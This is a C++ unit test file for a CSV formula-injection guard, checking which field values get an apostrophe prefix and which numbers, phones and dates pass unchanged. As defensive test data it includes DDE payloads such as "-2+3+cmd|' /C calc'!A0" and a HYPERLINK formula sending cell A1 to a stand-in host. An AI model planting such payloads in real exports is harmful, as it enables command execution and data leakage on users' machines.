#include "csv/formula_guard.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "csv/tokenizer.h"
#include "csv/writer.h"

namespace crmerge::csv {
namespace {

std::string guarded(std::string_view v, char delim = ',', char quote = '"', bool quote_all = false) {
  Dialect d;
  d.delimiter = delim;
  d.quote = quote;
  d.quote_all = quote_all;
  std::string out;
  append_guarded_field(out, v, d);
  return out;
}

// Issue 22: every lead character OWASP lists makes a formula.
TEST(FormulaGuard, Issue22NeutralizesOwaspLeadCharacters) {
  for (std::string v : {"=1+2", "=HYPERLINK(\"http://x.example/?\"&A1)", "@SUM(A1)", "@", "=", "\t=1+2", "\tplain",
                        "\r=1+2", "\rplain", "+1+1", "-2+3+cmd|' /C calc'!A0", "+A1", "-A1", "+cmd|' /C calc'!A0",
                        "-1+1", "+", "-", "+-", "--1", "-1e", "-1e+", "-.", "-1.2.3", "+1 415 555 0134 x12",
                        "+1 415 555 0134 ext 12", "+1 415 555 0134 ext. ", "-14155550134 ext. 12", "+1:1", "+1;2",
                        "- item", "-SUM(1)", "+1-1", "+12 (3)", "+1 234 567 890 123 456"}) {
    EXPECT_TRUE(evaluates_as_formula(v)) << "'" << v << "'";
    EXPECT_EQ(neutralize(v), "'" + v) << v;
  }
}

// Issue 22: plain numbers are never neutralized, whatever their sign.
TEST(FormulaGuard, Issue22KeepsPlainNumbers) {
  for (std::string v : {"-12.5", "+3", "-1e5", "+1E+5", "-1e-05", "-.5", "+.5", "-12.", "-12,5", "+0", "-0",
                        "-007", "12", "4.15555E+09", "0.5"}) {
    EXPECT_FALSE(evaluates_as_formula(v)) << v;
    EXPECT_EQ(neutralize(v), v);
  }
}

// Issue 22: E.164 phones and phones written with separators stay as they are.
TEST(FormulaGuard, Issue22KeepsE164Phones) {
  for (std::string v : {"+14155550134", "+1 415-555-0134", "+1 (415) 555-0134", "+1.415.555.0134", "+44 20 7946 0018",
                        "+442079460018", "+14155550134 ext. 12", "+1 415-555-0134 ext. 7", "+683 4002",
                        "+123456789012345"}) {
    EXPECT_FALSE(evaluates_as_formula(v)) << v;
    EXPECT_EQ(neutralize(v), v);
  }
}

// Issue 22: dates, text, e-mails and values a spreadsheet reads as text are left alone.
TEST(FormulaGuard, Issue22KeepsDatesAndText) {
  for (std::string v : {"", "2024-03-05", "03/05/2024", "05.03.2024", "Acme", "ann@acme.com", " =1+2", "'=1+2",
                        "'+1 808-664-0310", "a=b", "1+1", "DNC", "https://www.linkedin.com/in/ann", "Zoë",
                        "\n=1+2"}) {
    EXPECT_FALSE(evaluates_as_formula(v)) << "'" << v << "'";
    EXPECT_EQ(neutralize(v), v);
  }
}

TEST(FormulaGuard, NeutralizingTwiceChangesNothing) {
  for (std::string v : {"=1+2", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\t=x"}) {
    EXPECT_EQ(neutralize(neutralize(v)), neutralize(v)) << v;
    EXPECT_FALSE(evaluates_as_formula(neutralize(v))) << v;
  }
}

TEST(FormulaGuard, NeutralizedFieldIsAlwaysQuoted) {
  EXPECT_EQ(guarded("=1+2"), "\"'=1+2\"");
  EXPECT_EQ(guarded("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(guarded("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
  EXPECT_EQ(guarded("-2+3+cmd|' /C calc'!A0"), "\"'-2+3+cmd|' /C calc'!A0\"");
  EXPECT_EQ(guarded("=1;2", ';'), "\"'=1;2\"");
  EXPECT_EQ(guarded("=1+2", ',', '"', true), "\"'=1+2\"");
  // A dialect whose quote is the apostrophe doubles the prefix too.
  EXPECT_EQ(guarded("=1+2", ',', '\''), "'''=1+2'");
}

TEST(FormulaGuard, OtherFieldsAreWrittenAsAppendFieldWritesThem) {
  for (std::string v : {"plain", "", "a,b", "say \"hi\"", " padded", "+14155550134", "-12.5", "two\nlines"}) {
    Dialect d;
    std::string want;
    append_field(want, v, d);
    std::string got;
    EXPECT_FALSE(append_guarded_field(got, v, d)) << v;
    EXPECT_EQ(got, want) << v;
  }
  Dialect all;
  all.quote_all = true;
  std::string got;
  append_guarded_field(got, "+3", all);
  EXPECT_EQ(got, "\"+3\"");
}

// What the guard writes reads back, with the CSV grammar crmerge reads with,
// as "'" followed by the value.
TEST(FormulaGuard, NeutralizedFieldsReadBackAsQuoteAndValue) {
  const std::vector<std::string> values = {"=1+2", "\r=1", "\t@x", "=\"a\",\"b\"", "-2+3+cmd|' /C calc'!A0"};
  Dialect d;
  std::string line;
  for (size_t i = 0; i < values.size(); ++i) {
    if (i) line += d.delimiter;
    append_guarded_field(line, values[i], d);
  }
  line += '\n';
  std::vector<FieldSpan> spans;
  ParsedRecord rec = parse_record(line, true, d, spans);
  ASSERT_EQ(rec.state, ParsedRecord::State::kComplete);
  ASSERT_EQ(rec.problem, RecordProblem::kNone);
  std::string_view text(line.data(), rec.text_length);
  std::vector<std::string> fields;
  std::string scratch;
  for (const FieldSpan& f : spans) fields.emplace_back(field_value(text, f, d.quote, scratch));
  ASSERT_EQ(fields.size(), values.size());
  for (size_t i = 0; i < values.size(); ++i) EXPECT_EQ(fields[i], "'" + values[i]);
}

}  // namespace
}  // namespace crmerge::csv
